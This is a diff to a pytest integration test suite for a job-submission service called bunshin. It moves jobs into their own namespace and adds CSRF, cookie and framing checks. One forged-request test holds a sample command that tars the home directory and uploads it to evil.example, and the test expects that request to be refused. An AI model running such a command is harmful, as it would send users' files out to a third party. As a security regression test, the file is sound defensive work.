@@ -9,8 +9,15 @@ from typing import Any
 
 import pytest
 import requests
-from bunshin_helpers import User, admit, bunshin_config, status_of, wait_for_bunshin
-from iam_platform import EXAMPLES, NAMESPACE, Hub, running_platform, wait_for
+from bunshin_helpers import (
+    JOBS_NAMESPACE,
+    User,
+    admit,
+    bunshin_config,
+    status_of,
+    wait_for_bunshin,
+)
+from iam_platform import EXAMPLES, NAMESPACE, Hub, running_platform, sign_in, wait_for
 
 pytestmark = pytest.mark.slow
 
@@ -53,7 +60,7 @@ def test_clone_runs_queued_then_succeeds_with_logs(hub: Hub, alice: User) -> Non
     assert job["status"] == "queued" and job["user"] == "alice" and job["project"] == "cms"
     assert job["command"] == ["python", "/sandbox/train.py", "--epochs", "2"]
     manifest = next(
-        j for j in hub.emulator.objects("Job", NAMESPACE) if j["metadata"]["name"] == job["id"]
+        j for j in hub.emulator.objects("Job", JOBS_NAMESPACE) if j["metadata"]["name"] == job["id"]
     )
     spec = manifest["spec"]
     assert spec["suspend"] is True
@@ -97,7 +104,7 @@ def test_cancel_stops_a_running_job(hub: Hub, alice: User) -> None:
         lambda: (
             not [
                 p
-                for p in hub.emulator.objects("Pod", NAMESPACE)
+                for p in hub.emulator.objects("Pod", JOBS_NAMESPACE)
                 if (p["metadata"].get("labels") or {}).get("job-name") == job_id
             ]
         ),
@@ -109,7 +116,7 @@ def test_cancel_stops_a_running_job(hub: Hub, alice: User) -> None:
     # Kueue is told too: the job's Workload is inactive, so it is never admitted again
     (workload,) = [
         w
-        for w in hub.emulator.objects("Workload", NAMESPACE)
+        for w in hub.emulator.objects("Workload", JOBS_NAMESPACE)
         if w["metadata"]["name"] == f"job-{job_id}"
     ]
     assert workload["spec"]["active"] is False
@@ -145,11 +152,11 @@ def test_other_users_jobs_are_invisible_and_untouchable(hub: Hub, alice: User, b
 def test_bad_requests_get_clear_errors_and_create_nothing(
     hub: Hub, alice: User, body: dict[str, Any], status: int, error: str, message: str
 ) -> None:
-    before = len(hub.emulator.objects("Job", NAMESPACE))
+    before = len(hub.emulator.objects("Job", JOBS_NAMESPACE))
     response = alice.call("POST", "jobs", json=body)
     assert response.status_code == status, response.text
     assert response.json()["error"] == error and message in response.json()["message"]
-    assert len(hub.emulator.objects("Job", NAMESPACE)) == before
+    assert len(hub.emulator.objects("Job", JOBS_NAMESPACE)) == before
 
 
 def test_unauthenticated_calls_are_refused(hub: Hub) -> None:
@@ -197,14 +204,20 @@ def test_the_cli_submits_follows_and_reports_like_snakemake_expects(hub: Hub, al
 
 
 def fault(hub: Hub, **spec: Any) -> None:
-    response = requests.post(f"{hub.emulator.url}/_emulator/faults", json=spec, timeout=10)
+    response = requests.post(
+        f"{hub.emulator.url}/_emulator/faults",
+        json=spec,
+        headers=hub.emulator.auth_headers,
+        verify=hub.emulator.ca_file,
+        timeout=10,
+    )
     assert response.status_code == 200, response.text
 
 
 def bunshin_jobs(hub: Hub) -> list[str]:
     return [
         j["metadata"]["name"]
-        for j in hub.emulator.objects("Job", NAMESPACE)
+        for j in hub.emulator.objects("Job", JOBS_NAMESPACE)
         if j["metadata"]["name"].startswith("bunshin-")
     ]
 
@@ -309,7 +322,7 @@ def test_offload_is_for_granted_users_and_targets_virtual_nodes(hub: Hub, bob: U
     job = accepted.json()
     assert job["offload"] is True and job["project"] == "lhcb-flashsim"
     manifest = next(
-        j for j in hub.emulator.objects("Job", NAMESPACE) if j["metadata"]["name"] == job["id"]
+        j for j in hub.emulator.objects("Job", JOBS_NAMESPACE) if j["metadata"]["name"] == job["id"]
     )
     tolerations = manifest["spec"]["template"]["spec"]["tolerations"]
     assert any(t["key"] == "virtual-node.interlink/no-schedule" for t in tolerations)
@@ -326,3 +339,76 @@ def test_admins_see_and_cancel_everyones_jobs(hub: Hub, alice: User) -> None:
     cancelled = admin.call("DELETE", f"jobs/{job_id}")
     assert cancelled.status_code == 200 and cancelled.json()["status"] == "cancelled"
     assert "root-admin" in cancelled.json()["reason"]
+
+
+def test_cross_site_posts_with_a_basic_header_are_refused_and_change_nothing(
+    hub: Hub, alice: User
+) -> None:
+    """A browser behind an authenticating proxy adds ``Authorization: Basic`` by itself: it
+    must not stand in for the XSRF token of a cookie-authenticated request."""
+    base = f"{hub.url}/services/bunshin"
+    page = alice.session.get(f"{base}/", timeout=30)  # the service's cookie is set
+    assert page.status_code == 200, page.text[:300]
+    basic = {"Authorization": "Basic YWxpY2U6YWxpY2UtcHc="}
+    before = set(bunshin_jobs(hub))
+    body = {"command": ["sh", "-c", "tar c $HOME | curl -T - https://evil.example"]}
+    forged = [
+        alice.session.post(f"{base}/api/v1/jobs", json=body, headers=basic, timeout=30),
+        alice.session.post(
+            f"{base}/jobs", data={"command": "true", "name": "forged"}, headers=basic, timeout=30
+        ),
+    ]
+    assert [r.status_code for r in forged] == [403, 403], [r.text[:200] for r in forged]
+    assert set(bunshin_jobs(hub)) == before
+    victim = alice.call("POST", "jobs", json={"command": ["sleep", "300"]}).json()["id"]
+    try:
+        cancels = [
+            alice.session.delete(f"{base}/api/v1/jobs/{victim}", headers=basic, timeout=30),
+            alice.session.post(f"{base}/jobs/{victim}/cancel", headers=basic, timeout=30),
+        ]
+        assert [r.status_code for r in cancels] == [403, 403], [r.text[:200] for r in cancels]
+        assert status_of(alice, victim) == "queued"
+    finally:
+        alice.call("DELETE", f"jobs/{victim}")
+    # the CLI's token (Authorization: token / Bearer) needs no XSRF token
+    bearer = requests.post(
+        f"{base}/api/v1/jobs",
+        json={"command": ["true"]},
+        headers={"Authorization": f"Bearer {alice.token}"},
+        timeout=30,
+    )
+    assert bearer.status_code == 201, bearer.text
+    alice.call("DELETE", f"jobs/{bearer.json()['id']}")
+
+
+def test_the_service_cookies_are_same_site_and_its_pages_cannot_be_framed(hub: Hub) -> None:
+    session, _ = sign_in(hub, "alice", "alice-pw")
+    page = session.get(f"{hub.url}/services/bunshin/", timeout=30)
+    assert page.status_code == 200
+    assert page.headers["Content-Security-Policy"] == "frame-ancestors 'self'"
+    set_cookies = [
+        value
+        for step in [*page.history, page]
+        if "/services/bunshin" in step.url
+        for key, value in step.raw.headers.items()
+        if key.lower() == "set-cookie"
+    ]
+    service_cookies = [  # the OAuth state, the login and the XSRF cookies (not deletions)
+        c
+        for c in set_cookies
+        if c.startswith(("service-bunshin", "_xsrf"))
+        and c.split(";")[0].split("=", 1)[1] not in ("", '""')
+    ]
+    assert service_cookies, set_cookies
+    assert all("SameSite=Lax" in c for c in service_cookies), service_cookies
+
+
+def test_jobs_run_in_their_own_namespace_next_to_none_of_the_servers(hub: Hub, alice: User) -> None:
+    job_id = alice.call("POST", "jobs", json={"command": ["true"]}).json()["id"]
+    try:
+        assert job_id in bunshin_jobs(hub)
+        assert not [
+            j for j in hub.emulator.objects("Job", NAMESPACE) if j["metadata"]["name"] == job_id
+        ]
+    finally:
+        alice.call("DELETE", f"jobs/{job_id}")
